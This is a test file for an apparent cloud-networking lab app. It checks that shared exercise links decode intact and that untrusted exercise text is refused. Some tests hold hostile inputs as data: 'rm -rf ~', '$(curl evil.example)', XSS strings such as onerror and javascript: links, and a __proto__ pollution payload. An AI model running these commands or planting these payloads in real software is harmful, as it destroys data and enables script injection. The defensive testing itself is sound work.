import { describe, expect, it } from 'vitest';
import type { LabDocument, Probe } from '../../editor/document.ts';
import { gallery } from '../../io/gallery/gallery.ts';
import { readyDocument } from '../../io/gallery/ready-document.ts';
import { packText, unpackText } from '../../io/share-link/packing.ts';
import { applyRequest } from '../../kernel/cloud/apply.ts';
import type { CloudRequest } from '../../kernel/cloud/request.ts';
import type { JsonObject, JsonValue } from '../../kernel/lib/json.ts';
import { awsRegistry } from '../../resources/registry.ts';
import { forAllSeeds } from '../../testing/properties/for-all-seeds.ts';
import { Judge } from '../exercise/judge-exercise.ts';
import { startOf } from '../exercise/solution-lines.ts';
import { readMention } from '../script/names.ts';
import { runScript } from '../script/run-script.ts';
import { decodeExercise } from './decode-exercise.ts';
import { encodeExercise } from './encode-exercise.ts';
import { exerciseOf } from './exercise-of.ts';
import { proveMade, wordProblems } from './prove-made.ts';
import { readTold } from './read-told.ts';
import { scriptOfRequests } from './script-of-requests.ts';
import type { MadeExercise, SharedExercise } from './shared-exercise.ts';

/** Somebody who works on a document, and whose calls are kept. */
class Person {
  readonly requests: CloudRequest[] = [];
  readonly #start: LabDocument;
  #cloud: LabDocument['cloud'];

  constructor(start: LabDocument) {
    this.#start = start;
    this.#cloud = start.cloud;
  }

  id(mention: string): string {
    const found = readMention(this.#cloud, mention);
    if (!found.ok) throw new Error(found.error);
    return found.value;
  }

  call(operation: string, input: JsonObject, path = ''): string {
    const request = { service: 'ec2', operation, input, at: 0, ...this.#start.place };
    const outcome = applyRequest(awsRegistry, this.#cloud, request);
    if (!outcome.ok) throw new Error(outcome.error.message);
    this.requests.push(request);
    this.#cloud = outcome.cloud;
    return String(path.split('.').reduce<JsonValue | undefined>(fieldOf, outcome.output));
  }

  script(): string {
    return scriptOfRequests(this.#start.cloud, this.#start.place, this.requests);
  }
}

function fieldOf(value: JsonValue | undefined, field: string): JsonValue | undefined {
  return field === '' ? value : (value as JsonObject)[field];
}

function documentOf(id: string): LabDocument {
  const entry = gallery.find((one) => one.id === id);
  if (entry === undefined) throw new Error(`no architecture ${id}`);
  return readyDocument(entry, 'mine');
}

function probeTo(document: LabDocument, port: number): Probe {
  const probe = document.probes.find((one) => one.port === port);
  if (probe === undefined) throw new Error(`no question about port ${port}`);
  return probe;
}

const told = (parts: Partial<SharedExercise>): SharedExercise => ({
  title: 'Let SSH in',
  task: 'Nobody can log in to **web-1**.',
  goals: [],
  mostEdits: null,
  hints: ['Look at its group.'],
  debrief: 'A group that says nothing lets nobody in.',
  solution: 'aws ec2 describe-vpcs',
  ...parts,
});

/** SSH is let in on one public server; HTTPS has to go on working. */
function letSshIn(parts: Partial<SharedExercise> = {}): MadeExercise {
  const start = documentOf('public-server');
  const person = new Person(start);
  person.call('AuthorizeSecurityGroupIngress', {
    GroupId: person.id('security-group/web'),
    IpPermissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0' }] }],
  });
  const goals = [
    { probe: probeTo(start, 22).id, wanted: 'reach' as const },
    { probe: probeTo(start, 443).id, wanted: 'reach' as const },
  ];
  return { start, told: told({ goals, solution: person.script(), ...parts }) };
}

/** The worker's subnet lost its way out; a new table with a new gateway gives it back. */
function newWayOut(extra: (person: Person) => void = () => {}): MadeExercise {
  const whole = documentOf('private-with-nat');
  const breaker = new Person(whole);
  const table = breaker.id('route-table/private');
  const cut = applyRequest(awsRegistry, whole.cloud, {
    service: 'ec2',
    operation: 'DeleteRoute',
    input: { RouteTableId: table, DestinationCidrBlock: '0.0.0.0/0' },
    at: 0,
    ...whole.place,
  });
  if (!cut.ok) throw new Error(cut.error.message);
  const start = { ...whole, cloud: cut.cloud };
  const person = new Person(start);
  extra(person);
  const vpc = person.id('vpc/office');
  const association = person.id('private-a:route-table-association');
  const made = person.call('CreateRouteTable', { VpcId: vpc }, 'RouteTable.RouteTableId');
  person.call('CreateRoute', {
    RouteTableId: made,
    DestinationCidrBlock: '0.0.0.0/0',
    NatGatewayId: person.id('nat-gateway/nat-a'),
  });
  person.call('ReplaceRouteTableAssociation', { AssociationId: association, RouteTableId: made });
  const out = whole.probes.find(({ to }) => to === 'internet');
  const goals = [{ probe: out?.id ?? '', wanted: 'reach' as const }];
  return { start, told: told({ goals, solution: person.script() }) };
}

function reasonOf(packed: string): string {
  const read = decodeExercise(packed);
  if (read.ok) throw new Error('the link was opened');
  return read.error.map(({ path, message }) => `${path}: ${message}`).join('\n');
}

describe('a link that holds an exercise', () => {
  it('brings it back whole: canvas, words, goals, hints and solution', () => {
    const made = letSshIn({ mostEdits: 2 });
    const packed = encodeExercise(made);
    const read = decodeExercise(packed);
    if (!read.ok) throw new Error(JSON.stringify(read.error));
    const { value: exercise } = read;
    expect(startOf(exercise).cloud).toEqual(made.start.cloud);
    expect(exercise.title).toBe('Let SSH in');
    expect(exercise.hints).toEqual([{ say: 'Look at its group.' }]);
    expect(exercise.steps[0]?.goals.map((goal) => goal.say ?? goal.kind)).toEqual([
      'The internet reaches web-1 on tcp 22',
      'The internet reaches web-1 on tcp 443',
      'edits',
    ]);
    expect(packed).toMatch(/^1\.[\w-]+$/);
    expect(packed).not.toContain('authorize');
  });

  it('is judged from its own start as lessons are', () => {
    const read = decodeExercise(encodeExercise(letSshIn()));
    if (!read.ok) throw new Error(JSON.stringify(read.error));
    const start = startOf(read.value);
    const solved = runScript(start, read.value.solution.text).state.cloud;
    const kinds = [start.cloud, solved].map((cloud) =>
      new Judge()
        .judge(read.value.steps[0]?.goals ?? [], { cloud, edits: [], commands: [], answers: {} })
        .map(({ verdict }) => verdict.kind),
    );
    expect(kinds).toEqual([
      ['not-met', 'met'],
      ['met', 'met'],
    ]);
  });

  it('keeps what the solution makes in variables, so that it also solves where other things were made', () => {
    const { start, told: words } = newWayOut();
    expect(words.solution).toMatch(
      /^RTB=\$\(aws ec2 create-route-table .* --query RouteTable\.RouteTableId --output text\)$/m,
    );
    const exercise = exerciseOf({ start, told: words }, '');
    if (!exercise.ok) throw new Error(exercise.error);
    const before = startOf(exercise.value);
    const vpc = new Person(start).id('vpc/office');
    const elsewhere = runScript(before, `aws ec2 create-route-table --vpc-id ${vpc}`).state;
    const run = runScript(elsewhere, words.solution);
    expect(run.problems).toEqual([]);
    const judged = new Judge().judge(exercise.value.steps[0]?.goals ?? [], {
      cloud: run.state.cloud,
      edits: [],
      commands: [],
      answers: {},
    });
    expect(judged.map(({ verdict }) => verdict.kind)).toEqual(['met']);
  });

  it.each([
    ['cut short', (packed: string) => packed.slice(0, -20), /cut short or changed/],
    ['of a newer program', (packed: string) => packed.replace(/^1/, '2'), /open it with a newer program/],
    ['of no form', () => '0.abc', /no form 0/],
    ['empty', () => '', /holds no exercise/],
    ['a plain architecture', () => `1.${packText('{"n":"x"}')}`, /but no exercise/],
    ['not a document', () => `1.${packText('{"n":"x"}\n{}')}`, /is not a document/],
    ['markup', () => '1.<img src=x onerror=alert(1)>', /does not belong into a link/],
  ])('is refused with its reason when it is %s', (_what, change, reason) => {
    expect(reasonOf(change(encodeExercise(letSshIn())))).toMatch(reason);
  });

  it.each([
    ['goals that ask nothing', { goals: [] }, /exercise\.goals/],
    ['goals about what is not there', { goals: [{ probe: 'x', wanted: 'reach' }] }, /does not have/],
    ['a goal of another kind', { goals: [{ kind: 'command', operation: 'x' }] }, /exercise\.goals/],
    ['more than it may', { extra: true }, /exercise/],
    ['a solution that is no command', { solution: 'rm -rf ~' }, /line 1 of its solution/],
    ['a solution that runs another', { solution: '$(curl evil.example)' }, /line 1 of its solution/],
    ['a solution that solves nothing', { solution: 'aws ec2 describe-vpcs' }, /does not meet the goal/],
    ['an endless solution', { solution: '#\n'.repeat(5000) }, /too many lines/],
    ['an endless task', { task: 'x'.repeat(5000) }, /exercise\.task/],
  ])('is refused when somebody wrote into it %s', (_what, change, reason) => {
    const made = letSshIn();
    const packed = encodeExercise({ ...made, told: { ...made.told, ...change } as SharedExercise });
    expect(reasonOf(packed)).toMatch(reason);
  });

  it('is refused when there is nothing to solve', () => {
    const made = letSshIn();
    const goals = made.told.goals.slice(1);
    expect(reasonOf(encodeExercise({ ...made, told: { ...made.told, goals } }))).toMatch(
      /met before anything is done/,
    );
  });

  it('never reaches into prototypes', () => {
    const made = letSshIn();
    const text = unpackText(encodeExercise(made).slice(2));
    const [base] = text.ok ? text.value.split('\n') : [];
    expect(reasonOf(`1.${packText(`${base}\n{"__proto__":{"title":"x"}}`)}`)).toMatch(/not readable/);
  });

  it('is opened as it was or refused, whatever happens to it on the way', () => {
    const packed = encodeExercise(letSshIn());
    forAllSeeds({ runs: 60 }, (_seed, random) => {
      const at = random.integer(0, packed.length - 1);
      const letter = 'Aa0_-.~<'[random.integer(0, 7)] ?? '';
      const changed = packed.slice(0, at) + letter + packed.slice(at + random.integer(0, 3));
      if (changed !== packed) expect(decodeExercise(changed).ok).toBe(false);
    });
  });
});

describe('the words of strangers', () => {
  it('show no HTML, no picture, no script; a link says where it leads', () => {
    const { blocks, problems } = readTold(
      'Hello <script>alert(1)</script> ![x](https://evil.example/p.png) [here](javascript:alert(1)) and [there](https://evil.example/a)\n\n<iframe src="https://evil.example"></iframe>',
    );
    const text = JSON.stringify(blocks);
    expect(text).not.toMatch(/script|iframe|png/);
    expect(text).toContain('(evil.example)');
    expect(problems.length).toBeGreaterThanOrEqual(4);
  });

  it('may be nested as deep as fits', () => {
    for (const mark of ['- ', '> ', '**', '*', '[', '> [!NOTE] '])
      expect(() => readTold(mark.repeat(4000 / mark.length))).not.toThrow();
  });
});

describe('the proofs of an exercise that was made on a canvas', () => {
  it('pass where the start fails, the solution solves and every change is needed', () => {
    expect(proveMade(letSshIn())).toEqual({ problems: [], unneeded: [], changes: 1 });
    expect(proveMade(newWayOut())).toEqual({ problems: [], unneeded: [], changes: 3 });
  });

  it('refuse a trivial one, and a solution that does not solve', () => {
    const made = letSshIn();
    const trivial = { ...made, told: { ...made.told, goals: made.told.goals.slice(1) } };
    expect(proveMade(trivial).problems[0]).toMatch(/met before anything is done/);
    const idle = { ...made, told: { ...made.told, solution: 'aws ec2 describe-vpcs' } };
    expect(proveMade(idle).problems[0]).toMatch(
      /does not meet the goal "The internet reaches web-1 on tcp 22"/,
    );
    const tooMany = newWayOut();
    const tight = { ...tooMany, told: { ...tooMany.told, mostEdits: 2 } };
    expect(proveMade(tight).problems[0]).toMatch(/At most 2 changes/);
  });

  it('find every change that is not needed, also one that is made before others of its kind', () => {
    const proof = proveMade(
      newWayOut((person) => {
        const vpc = person.id('vpc/office');
        person.call('CreateRouteTable', { VpcId: vpc });
        person.call('CreateTags', { Resources: [vpc], Tags: [{ Key: 'Team', Value: 'a' }] });
      }),
    );
    expect(proof.problems).toEqual([]);
    expect(proof.unneeded.map(({ line }) => line)).toEqual([0, 1]);
    expect(proof.unneeded[1]?.text).toMatch(/create-tags/);
    expect(proof.changes).toBe(5);
  });

  it('say what of the task cannot be shown', () => {
    expect(wordProblems(letSshIn({ task: '<b>Hello</b>' }).told)[0]).toMatch(/^In the task: Line 1: HTML/);
  });
});
